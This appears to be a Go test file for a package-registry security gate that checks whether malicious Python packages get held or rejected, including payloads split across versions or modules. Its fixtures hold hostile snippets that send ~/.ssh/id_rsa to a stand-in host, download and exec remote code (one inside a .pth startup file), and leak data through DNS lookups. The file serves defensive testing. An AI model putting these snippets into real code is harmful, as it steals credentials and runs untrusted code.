package gate_test

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gatehouse-project/gatehouse/internal/artifact"
	"github.com/gatehouse-project/gatehouse/internal/ecosystem"
	"github.com/gatehouse-project/gatehouse/internal/finding"
	"github.com/gatehouse-project/gatehouse/internal/gate"
	"github.com/gatehouse-project/gatehouse/internal/scan"
	"github.com/gatehouse-project/gatehouse/internal/scan/malware"
	"github.com/gatehouse-project/gatehouse/internal/verdict"
)

// These tests are what somebody tries who wants a payload to count as old.

const (
	harmless = "def add(a, b):\n    return a + b\n"
	steals   = "import os, requests\nk = open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\nrequests.post(\"https://c.example.invalid/\", data=k)\n"
	loads    = "import requests\nexec(requests.get(\"https://c.example.invalid/p\").text)\n"
	knownBad = "import urllib.request\ndef f():\n    urllib.request.urlopen('http://known-bad.invalid/')\n"
)

// judging is a world with the rules that are built in.
func judging(t testing.TB, lines ...string) *world {
	w := newWorld(t, lines...)
	w.Behave = malware.Default()
	w.Checks = append(w.Checks, malware.NewCheck(malware.Default()))
	t.Cleanup(w.Close)
	return w
}

// holds says which files a version holds.
func (w *world) holds(version string, files map[string]string) {
	name, number, _ := strings.Cut(version, " ")
	all := map[string]string{name + "-" + number + ".dist-info/METADATA": "Name: " + name + "\nVersion: " + number + "\n"}
	maps.Copy(all, files)
	w.does(version) // there is a map
	w.look.mu.Lock()
	defer w.look.mu.Unlock()
	w.look.code[wheelOf(version)] = malware.FactsOf(wheelOf(version), all)
}

func (w *world) module(version, source string) {
	w.holds(version, map[string]string{"demo/__init__.py": source})
}

// in asks for a version in a registry and says what came of it.
func (w *world) in(registry, version string) string {
	w.t.Helper()
	r := purls(vers(version).Purl())
	r.Registry = registry
	o := outcomeOf(w.t, w.admit(r), version)
	return strings.TrimSpace(o.Verdict.String() + " " + strings.Join(blocking(o.Reasons), " "))
}

// also adds a registry like main.
func (w *world) also(name string) {
	r := w.Registries["main"]
	r.Name = name
	w.Registries[name] = r
}

func TestOnePayloadInTwoVersionsInARow(t *testing.T) {
	w := judging(t, "demo 1.0", "demo 1.1", "demo 1.2", "demo 1.3")
	w.module("demo 1.0", harmless)
	for _, v := range []string{"demo 1.1", "demo 1.2", "demo 1.3"} {
		w.module(v, loads)
	}
	want(t, "1.0", w.admits("demo 1.0"), "admit")
	want(t, "the payload", w.admits("demo 1.1"), "hold download-exec")
	want(t, "once more", w.admits("demo 1.2"), "hold download-exec")
	if _, err := w.Waive(t.Context(), gate.WaiverWish{Registry: "main", Package: pkg("demo"), Rule: "download-exec", Until: w.Now().Add(30 * day), Reason: "known", By: "ann", Range: "==1.1"}); err != nil {
		t.Fatal(err)
	}
	want(t, "1.1, waived", w.admits("demo 1.1"), "admit")
	want(t, "1.2, after a waiver for 1.1", w.admits("demo 1.2"), "hold download-exec")
	w.approve("demo 1.2")
	want(t, "1.2, approved", w.admits("demo 1.2"), "admit")
	want(t, "1.3, which a person saw already", w.admits("demo 1.3"), "admit")
}

// TestOnePayloadInFiveSteps: each step is harmless by itself.
func TestOnePayloadInFiveSteps(t *testing.T) {
	w := judging(t)
	path := "P = os.path.expanduser(\"~/.ssh/id_rsa\")\n"
	tell := "def tell(x):\n    requests.post(\"https://c.example.invalid/\", data=x)\n"
	for n, source := range []string{"import os\n", "import os, requests\n", "import os, requests\n" + path, "import os, requests\n" + path + tell} {
		v := fmt.Sprint("demo 1.", n)
		w.releases(v)
		w.module(v, source)
		want(t, v, w.admits(v), "admit")
		w.pass(40 * day)
	}
	w.releases("demo 1.4")
	w.module("demo 1.4", "import os, requests\n"+path+tell+"tell(open(P).read())\n")
	if got := w.admits("demo 1.4"); strings.HasPrefix(got, "admit") {
		t.Errorf("the last step, which joins the others: %s", got)
	}
}

// TestOnePayloadInFiveModules: no value is seen to travel from one module to the next,
// and no version before the last one both collected and sent. The version after it
// is compared with what was admitted, not with what was held.
func TestOnePayloadInFiveModules(t *testing.T) {
	w := judging(t)
	files := map[string]string{"demo/__init__.py": harmless}
	next := func(number int, more map[string]string) string {
		v := fmt.Sprint("demo 1.", number)
		maps.Copy(files, more)
		w.pass(40 * day)
		w.releases(v)
		w.holds(v, files)
		return w.admits(v)
	}
	for n, module := range []string{
		"ZONE = '.c.example.invalid'\n",
		"import getpass\n\ndef facts():\n    return [getpass.getuser()]\n",
		"def text(parts):\n    return '|'.join(parts).encode().hex()\n",
		"import socket\n\ndef ask(words):\n    for w in words:\n        socket.gethostbyname(w)\n",
	} {
		want(t, fmt.Sprint("step ", n), next(n, map[string]string{fmt.Sprintf("demo/_part%d.py", n): module}), "admit")
	}
	joined := "from . import _part0, _part1, _part2, _part3\nasks = vars(_part3)['ask']\nasks([_part2.text(_part1.facts()) + _part0.ZONE])\n_part3.ask([_part0.ZONE])\n"
	if got := next(4, map[string]string{"demo/__init__.py": joined}); strings.HasPrefix(got, "admit") {
		t.Errorf("the version that joins the parts: %s", got)
	}
	if got := next(5, nil); strings.HasPrefix(got, "admit") {
		t.Errorf("the version after it: %s", got)
	}
	w.approve("demo 1.5")
	want(t, "approved by a person", w.admits("demo 1.5"), "admit")
	want(t, "what that person saw is no beginning any more", next(6, nil), "admit")
}

// TestTheSameBytesInAnotherRole: read, they are a text; imported, they are judged as
// the code that they are, whoever admitted the text.
func TestTheSameBytesInAnotherRole(t *testing.T) {
	w := judging(t, "demo 1", "demo 2", "demo 3", "other 1")
	w.holds("demo 1", map[string]string{"demo/__init__.py": harmless, "demo/notes.txt": loads})
	w.holds("demo 2", map[string]string{"demo/__init__.py": loads, "demo/notes.txt": loads})
	w.holds("demo 3", map[string]string{"demo/__init__.py": harmless, "demo.pth": "import os; exec(__import__('requests').get('https://c.example.invalid/p').text)\n"})
	w.holds("other 1", map[string]string{"demo/__init__.py": loads})
	want(t, "as a text", w.admits("demo 1"), "admit")
	want(t, "as a module", w.admits("demo 2"), "hold download-exec")
	if got := w.admits("demo 3"); strings.HasPrefix(got, "admit") {
		t.Errorf("as what runs at every start: %s", got)
	}
	want(t, "under another package's name", w.admits("other 1"), "hold download-exec")
}

// TestOrderOfVersions: the nearest lower version by the ecosystem's order vouches,
// whatever was uploaded or admitted first.
func TestOrderOfVersions(t *testing.T) {
	for _, tc := range []struct {
		why      string
		admitted []string
		asked    string
		baseline string // "" for none
	}{
		{"numbers are no texts", []string{"1.9", "1.10"}, "1.11", "1.10"},
		{"a post release", []string{"0.9", "1.0"}, "1.0.post1", "1.0"},
		{"an epoch is above all others", []string{"1.0", "2024.1"}, "1!0.1", "2024.1"},
		{"... and what has none below", []string{"1!0.1"}, "2024.1", ""},
		{"a local version", []string{"1.0"}, "1.0+company.1", "1.0"},
		{"a pre-release comes before its release", []string{"1.0"}, "1.0rc1", ""},
		{"... and vouches for it once it is admitted", []string{"1.0rc1"}, "1.0", "1.0rc1"},
		{"a development release", []string{"0.9", "1.0.dev3"}, "1.0a1", "1.0.dev3"},
		{"higher ones vouch for none", []string{"2.0", "3.0"}, "1.0", ""},
		{"one admitted later", []string{"2.0", "1.0"}, "1.5", "1.0"},
	} {
		t.Run(tc.why, func(t *testing.T) {
			w, _ := behaving(t)
			release := func(n string) {
				w.releases("demo " + n)
				w.does("demo "+n, "exec")
			}
			for _, n := range tc.admitted {
				release(n)
				if got := w.admits("demo " + n); got != "admit" {
					w.approve("demo " + n)
					want(t, n, w.admits("demo "+n), "admit")
				}
			}
			release(tc.asked)
			says := "hold exec-rule"
			if tc.baseline != "" {
				says = "admit"
			}
			want(t, tc.asked, w.admits("demo "+tc.asked), says)
			got, _, _ := strings.Cut(w.decision(wheelOf("demo "+tc.asked)).Inputs.Baseline, "@")
			want(t, "compared with", got, tc.baseline)
		})
	}
}

// TestBackDatedVersion: a low number that is uploaded after the high one opens
// nothing for it by being there, and an approval outlives it.
func TestBackDatedVersion(t *testing.T) {
	w, _ := behaving(t, "demo 2")
	w.does("demo 2", "exec")
	want(t, "2", w.admits("demo 2"), "hold exec-rule")
	w.releases("demo 1.9", "demo 1.8")
	w.does("demo 1.9", "exec")
	w.does("demo 1.8", "fetch")
	want(t, "1.9", w.admits("demo 1.9"), "hold exec-rule")
	want(t, "2, when 1.9 is there", w.admits("demo 2"), "hold exec-rule")
	w.approve("demo 2")
	want(t, "2, approved", w.admits("demo 2"), "admit")
	want(t, "1.8, without it", w.admits("demo 1.8"), "admit")
	want(t, "2, approved, above 1.8", w.stands("demo 2"), "admit")
	want(t, "1.9, below what is admitted", w.admits("demo 1.9"), "hold exec-rule")
}

// TestVanishedBaseline: an upstream takes malware away before anybody writes about
// it. What is gone vouches for nothing new; what is in use by its word stays.
func TestVanishedBaseline(t *testing.T) {
	w, _ := behaving(t, "demo 1", "demo 2", "demo 3")
	for _, v := range []string{"demo 1", "demo 2", "demo 3"} {
		w.does(v, "exec")
	}
	w.admits("demo 1")
	w.approve("demo 1")
	want(t, "1", w.admits("demo 1"), "admit")
	want(t, "2", w.admits("demo 2"), "admit")
	for _, v := range []string{"demo 1", "demo 2"} {
		w.up.remove("demo", wheelOf(v))
	}
	want(t, "3, when 1 and 2 are gone", w.admits("demo 3"), "hold exec-rule")

	w.releases("demo 2")
	want(t, "2, which 1 vouched for when it was there", w.stands("demo 2"), "admit")
	want(t, "3 against 2", w.admits("demo 3"), "admit")
	state, err := w.db.State(t.Context(), "main", pkg("demo"))
	if err != nil || len(state.Recalled) != 0 {
		t.Errorf("recalled %v, %v", state.Recalled, err)
	}
}

// TestYankedBaseline: a yank is a note by the default policy, so the version is
// admitted now and vouches; in quarantine it is held, and vouches never again.
func TestYankedBaseline(t *testing.T) {
	for flag, says := range map[string]string{"yanked": "admit", "": "admit", "bad": "hold exec-rule"} {
		w, _ := behaving(t, "demo 1", "demo 2")
		w.does("demo 1", "exec")
		w.does("demo 2", "exec")
		w.admits("demo 1")
		w.approve("demo 1")
		want(t, "1", w.admits("demo 1"), "admit")
		switch flag {
		case "yanked":
			w.up.edit("demo", wheelOf("demo 1"), func(f *ecosystem.IndexFile) { f.Yanked = true })
		case "bad":
			w.up.edit("demo", wheelOf("demo 1"), func(f *ecosystem.IndexFile) { f.SHA256 = artifact.DigestOf([]byte("other")) })
		}
		want(t, "2 after 1, "+flag, w.admits("demo 2"), says)
	}
}

// TestRegistriesVouchForThemselves: neither an admission, an approval nor a waiver of
// one registry subtracts in another, and a recall by one's own policy takes nothing
// from the other.
func TestRegistriesVouchForThemselves(t *testing.T) {
	w, _ := behaving(t, "demo 1", "demo 2")
	w.also("other")
	w.does("demo 1", "exec")
	w.does("demo 2", "exec")
	w.admits("demo 1")
	w.approve("demo 1")
	want(t, "1 in main", w.admits("demo 1"), "admit")
	want(t, "2 in main", w.admits("demo 2"), "admit")
	want(t, "2 in the other", w.in("other", "demo 2"), "hold exec-rule")
	want(t, "1 in the other", w.in("other", "demo 1"), "hold exec-rule")

	if _, err := w.Waive(t.Context(), gate.WaiverWish{Registry: "other", Package: pkg("demo"), Rule: "exec-rule", Until: w.Now().Add(30 * day), Reason: "known", By: "ann", Range: "==1"}); err != nil {
		t.Fatal(err)
	}
	want(t, "1 in the other, waived there", w.in("other", "demo 1"), "admit")
	want(t, "2 in the other", w.in("other", "demo 2"), "hold exec-rule")
	want(t, "2 in main, which has no waiver", w.stands("demo 2"), "admit")

	w.pass(31 * day)
	want(t, "1 in the other, when the waiver is over", w.in("other", "demo 1"), "hold exec-rule")
	want(t, "2 in main, after that recall", w.stands("demo 2"), "admit")
	w.malware("MAL-1", "demo 1")
	want(t, "2 in main, once 1 is malware everywhere", w.stands("demo 2"), "hold exec-rule")
}

// TestRuleThatIsTakenBack: what it alone held opens, and what vouched without it
// vouches still.
func TestRuleThatIsTakenBack(t *testing.T) {
	w, rules := behaving(t, "demo 1", "demo 2")
	w.does("demo 1", "exec")
	w.does("demo 2", "exec", "fetch")
	want(t, "1", w.admits("demo 1"), "hold exec-rule")
	rules.mu.Lock()
	rules.rules = map[string]finding.Severity{"fetch": finding.Low}
	rules.mu.Unlock()
	looks := w.look.total()
	want(t, "1, when the rule is gone", w.admits("demo 1"), "admit")
	want(t, "2", w.admits("demo 2"), "admit")
	if n := w.look.total() - looks; n != 1 {
		t.Errorf("%d looks, want that at 2", n)
	}
	rules.set("exec", finding.High)
	if err := w.EvaluateAll(t.Context(), nil); err != nil {
		t.Fatal(err)
	}
	want(t, "1, when the rule is back", w.stands("demo 1"), "hold exec-rule")
	want(t, "2, when nothing vouches any more", w.stands("demo 2"), "hold exec-rule")
}

// crashing is a store that stops at the rows of behaviour, as a process does that is
// killed between two transactions.
type crashing struct {
	gate.Store
	mu   sync.Mutex
	stop bool
}

func (c *crashing) PutBehaviours(ctx context.Context, bs []gate.EvidencedBehaviour, at time.Time) error {
	c.mu.Lock()
	stop := c.stop
	c.mu.Unlock()
	if stop {
		return errors.New("killed")
	}
	return c.Store.PutBehaviours(ctx, bs, at)
}

// TestKilledBetweenLookAndRules: evidence without behaviour admits nothing, at either
// door, and the next attempt goes on from there without opening the archive again.
func TestKilledBetweenLookAndRules(t *testing.T) {
	for what, does := range map[string]string{"admit": "fetch", "reject steal-rule": "steal"} {
		w, _ := behaving(t, "demo 1")
		w.does("demo 1", does)
		store := &crashing{Store: w.db, stop: true}
		w.Store = store
		if got := w.admits("demo 1"); strings.HasPrefix(got, "admit") || strings.HasPrefix(got, "reject") {
			t.Errorf("killed: %s", got)
		}
		x, err := w.up.Index(t.Context(), pkg("demo"))
		if err != nil {
			t.Fatal(err)
		}
		if err := w.AdmitFile(t.Context(), "main", vers("demo 1"), x, x.Files[0]); err == nil {
			t.Error("a client's pull was answered though the rules were not asked")
		}
		if gate.Serves(w.decision(wheelOf("demo 1"))) {
			t.Error("served though the rules were not asked")
		}
		store.mu.Lock()
		store.stop = false
		store.mu.Unlock()
		looks := w.look.total()
		want(t, "after a restart", w.admits("demo 1"), what)
		if w.look.total() != looks {
			t.Errorf("%d more looks", w.look.total()-looks)
		}
	}
}

// TestPullDoorJudgesTheFirstVersionInFull: with nothing to compare with, all is new.
func TestPullDoorJudgesTheFirstVersionInFull(t *testing.T) {
	w := judging(t, "demo 1", "demo 2")
	w.module("demo 1", loads)
	w.holds("demo 2", map[string]string{"demo/__init__.py": loads, "demo/b.py": steals})
	x, err := w.up.Index(t.Context(), pkg("demo"))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range x.Files {
		if err := w.AdmitFile(t.Context(), "main", x.Version(f), x, f); err != nil {
			t.Fatal(err)
		}
	}
	want(t, "one strong sign", w.stands("demo 1"), "hold download-exec")
	if got := w.stands("demo 2"); !strings.HasPrefix(got, "reject") || !strings.Contains(got, malware.RuleMalicious) {
		t.Errorf("two: %s", got)
	}
}

// TestObservingARegistryOfBehaviour: what can be waived is a judgement, and a trial
// of judgements is what observing is for; what is known to be bad is served nowhere.
// What was served so vouches for nothing.
func TestObservingARegistryOfBehaviour(t *testing.T) {
	w := judging(t, "demo 1", "demo 2", "demo 3")
	w.observe()
	w.holds("demo 1", map[string]string{"demo/__init__.py": loads, "demo/b.py": steals})
	w.holds("demo 2", map[string]string{"demo/__init__.py": loads, "demo/b.py": steals})
	w.module("demo 3", knownBad)
	for _, tc := range []struct {
		version string
		serves  bool
	}{{"demo 1", true}, {"demo 2", true}, {"demo 3", false}} {
		w.admits(tc.version)
		d := w.decision(wheelOf(tc.version))
		if gate.Serves(d) != tc.serves || d.Verdict != verdict.Reject || d.Inputs.Baseline != "" {
			t.Errorf("%s: %s, served %t, compared with %q (%s); want it rejected, served %t and compared with nothing",
				tc.version, d.Verdict, gate.Serves(d), d.Inputs.Baseline, saidOf(d.Reasons), tc.serves)
		}
	}
	r := w.Registries["main"]
	r.Observe = false
	w.Registries["main"] = r
	w.newSnapshot()
	if got := w.stands("demo 2"); !strings.HasPrefix(got, "reject") {
		t.Errorf("when the trial is over: %s", got)
	}
}

// withoutFacts is a store of the release before facts were kept, for one file.
type withoutFacts struct {
	gate.Store
	of map[string]bool // by evidence key
}

func (s withoutFacts) Behaviour(ctx context.Context, key string) (scan.Behaviour, error) {
	if s.of[key] {
		return scan.Behaviour{}, fmt.Errorf("facts: %w", verdict.ErrNotFound)
	}
	return s.Store.Behaviour(ctx, key)
}

// TestAdmittedBeforeFactsWereKept: it is served on and vouches for nothing, and where
// nothing was kept of what is new, that is held.
func TestAdmittedBeforeFactsWereKept(t *testing.T) {
	w, _ := behaving(t, "demo 1", "demo 2")
	w.does("demo 1", "exec")
	w.does("demo 2", "exec")
	w.admits("demo 1")
	w.approve("demo 1")
	want(t, "1", w.admits("demo 1"), "admit")
	old := map[string]bool{w.decision(wheelOf("demo 1")).Inputs.FileEvidence: true}
	w.Store = withoutFacts{w.db, old}
	w.newSnapshot()
	rules := w.Behave.(*behaveRules)
	rules.set("other", finding.Low) // nothing is kept in memory
	want(t, "1, without facts", w.stands("demo 1"), "admit")
	want(t, "2", w.admits("demo 2"), "hold exec-rule")
	if b := w.decision(wheelOf("demo 2")).Inputs.Baseline; b != "" {
		t.Errorf("2 is compared with %q", b)
	}
}

// TestNoFactsOfWhatIsNew: a file that is up for admission, with evidence and without
// facts, is not taken for one that does nothing.
func TestNoFactsOfWhatIsNew(t *testing.T) {
	w, _ := behaving(t, "demo 1 age=1h") // looked at, and held for its age
	want(t, "young", w.admits("demo 1"), "hold")
	w.Store = withoutFacts{w.db, map[string]bool{w.decision(wheelOf("demo 1")).Inputs.FileEvidence: true}}
	w.Behave.(*behaveRules).set("other", finding.Low)
	w.pass(30 * day)
	want(t, "old enough", w.stands("demo 1"), "hold behaviour-not-evaluated")
}

// TestUpgradeOfManyFiles: nothing of two hundred admitted files is taken away, none
// is opened because somebody reads the index, a new version has a few opened for it,
// and the rest are looked at again one by one.
func TestUpgradeOfManyFiles(t *testing.T) {
	w, _ := behaving(t)
	const versions, each = 10, 20
	w.large(versions, each, 0)
	w.Fetch = pretend{}
	x, err := w.up.Index(t.Context(), pkg("large"))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range x.Files {
		w.look.sees(f.Name)
		w.look.does(f.Name, "fetch", "net")
		if err := w.Look(t.Context(), x.Version(f), x, f); err != nil {
			t.Fatal(err)
		}
	}
	for v, i := w.view("large"), 0; i < len(v.Decisions); i++ {
		if err := w.Record(t.Context(), v, i); err != nil {
			t.Fatal(err)
		}
	}
	// What was decided about one file so often that nobody lists it all.
	var often []verdict.Decision
	for n := range 1100 {
		d := w.view("large").Decisions[0]
		d.ID, d.Verdict = fmt.Sprint("d-often-", n), verdict.Hold
		often = append(often, d)
	}
	if err := w.db.PutDecisions(t.Context(), often); err != nil {
		t.Fatal(err)
	}
	served := func(when string) {
		t.Helper()
		refused := 0
		for _, d := range w.view("large").Decisions {
			if d.Version.Number != "10.0" && !gate.Serves(d) {
				refused++
			}
		}
		if refused > 0 {
			t.Errorf("%s %d of %d files are not served", when, refused, versions*each)
		}
	}
	served("before")
	looks := w.look.total()
	w.upgrade()
	served("after the upgrade")
	if n := w.look.total() - looks; n != 0 {
		t.Errorf("reading the index opened %d archives", n)
	}

	late := ecosystem.IndexFile{Name: "large-10.0-py3-none-any.whl", Number: "10.0", Kind: artifact.Wheel, SHA256: artifact.DigestOf([]byte("late")), Size: 1, Uploaded: today.Add(-100 * day)}
	w.look.sees(late.Name)
	w.look.does(late.Name, "fetch", "net")
	w.up.put("large", late, nil, nil)
	if x, err = w.up.Index(t.Context(), pkg("large")); err != nil {
		t.Fatal(err)
	}
	if err := w.AdmitFile(t.Context(), "main", vers("large 10.0"), x, late); err != nil {
		t.Fatal(err)
	}
	if n := w.look.total() - looks; n < 2 || n > 1+8 {
		t.Errorf("%d archives were opened for a new version, want its own and at most 8", n)
	}
	served("while one version was looked at again in part")
	want(t, "the new one, of whose base the most was seen by earlier scanners", w.decision(late.Name).Verdict.String(), "hold")

	if err := w.LookAgain(t.Context(), nil); err != nil {
		t.Fatal(err)
	}
	if n := w.look.total() - looks; n != versions*each+1 {
		t.Errorf("%d archives were opened altogether, want each once", n)
	}
	want(t, "the new one", w.decision(late.Name).Verdict.String(), "admit")
	served("after all were looked at again")
}

// TestManyReadersWhileRulesChange is for the race detector; what comes out does not
// depend on who was first.
func TestManyReadersWhileRulesChange(t *testing.T) {
	w, rules := behaving(t)
	for n := range 12 {
		v := fmt.Sprint("demo 1.", n)
		w.releases(v)
		w.does(v, "listen")
		want(t, v, w.admits(v), "admit")
	}
	var wait sync.WaitGroup
	for n := range 6 {
		wait.Go(func() {
			for range 20 {
				if _, err := w.View(t.Context(), "main", pkg("demo")); err != nil {
					t.Errorf("a view: %v", err)
				}
			}
		})
		wait.Go(func() {
			rules.set(fmt.Sprint("kind-", n), finding.Low)
			if err := w.EvaluateAll(t.Context(), nil); err != nil {
				t.Errorf("evaluating: %v", err)
			}
		})
	}
	wait.Wait()
	rules.set("listen", finding.High)
	if err := w.EvaluateAll(t.Context(), nil); err != nil {
		t.Fatal(err)
	}
	for n := range 12 {
		want(t, "in the end", w.stands(fmt.Sprint("demo 1.", n)), "hold listen-rule")
	}
}

// TestAnAdmissionTwiceIsOne: its job is taken up again after the process was killed.
func TestAnAdmissionTwiceIsOne(t *testing.T) {
	w, _ := behaving(t, "demo 1", "demo 2")
	w.does("demo 1", "fetch")
	w.does("demo 2", "fetch", "exec")
	want(t, "1", w.admits("demo 1"), "admit")
	for range 3 {
		want(t, "2", w.admits("demo 2"), "hold exec-rule")
	}
	ds, err := w.db.DecisionsOf(t.Context(), "main", vers("demo 2"), 10)
	if err != nil || len(ds) != 1 || w.look.asked[wheelOf("demo 2")] != 1 {
		t.Errorf("%d decisions after %d looks, %v; want one each", len(ds), w.look.asked[wheelOf("demo 2")], err)
	}
}

// TestWhatIsAdmittedKeepsWhatItWasComparedWith: a lower version that is admitted
// later, or one that has come of age meanwhile, takes nothing away that is in use,
// and lets no approval lapse. A new version is compared with all that is there.
func TestWhatIsAdmittedKeepsWhatItWasComparedWith(t *testing.T) {
	admitted := func(w *world, version string) {
		t.Helper()
		if w.admits(version) != "admit" {
			w.approve(version)
			want(t, version, w.admits(version), "admit")
		}
	}
	t.Run("a lower one without the fact", func(t *testing.T) {
		w, _ := behaving(t, "demo 1.0", "demo 1.1", "demo 1.2", "demo 1.3")
		w.does("demo 1.0", "exec")
		w.does("demo 1.1")
		w.does("demo 1.2", "exec")
		w.does("demo 1.3", "exec")
		admitted(w, "demo 1.0")
		w.pass(day)
		want(t, "1.2, for which 1.0 vouches", w.admits("demo 1.2"), "admit")
		w.pass(day)
		want(t, "1.1, a lower one", w.admits("demo 1.1"), "admit")
		want(t, "1.2, later", w.stands("demo 1.2"), "admit")
		want(t, "1.2, asked for again", w.admits("demo 1.2"), "admit")
		want(t, "1.3", w.admits("demo 1.3"), "admit")
	})
	t.Run("a lower one with a part of what was approved", func(t *testing.T) {
		w, rules := behaving(t, "demo 1", "demo 2")
		rules.set("listen", finding.High)
		w.does("demo 2", "exec", "listen")
		w.does("demo 1", "exec")
		admitted(w, "demo 2")
		w.pass(day)
		admitted(w, "demo 1")
		want(t, "2, approved before 1 was", w.stands("demo 2"), "admit")
	})
	t.Run("ninety days go by", func(t *testing.T) {
		w := judging(t, "demo 1.0", "demo 1.1", "demo 1.2", "demo 1.3")
		w.module("demo 1.0", harmless)
		w.module("demo 1.1", loads)
		for _, v := range []string{"demo 1.2", "demo 1.3"} {
			w.holds(v, map[string]string{"demo/__init__.py": loads, "demo/b.py": steals})
		}
		for _, v := range []string{"demo 1.0", "demo 1.1", "demo 1.2"} {
			admitted(w, v)
			w.pass(day)
		}
		w.pass(87*day + 12*time.Hour) // 1.0 was admitted more than 90 days ago now, the others were not
		w.newSnapshot()
		for _, v := range []string{"demo 1.0", "demo 1.1", "demo 1.2"} {
			want(t, v+" later", w.stands(v), "admit")
		}
		state, err := w.db.State(t.Context(), "main", pkg("demo"))
		if err != nil || len(state.Recalled) != 0 {
			t.Errorf("recalled %v, %v", state.Recalled, err)
		}
	})
}
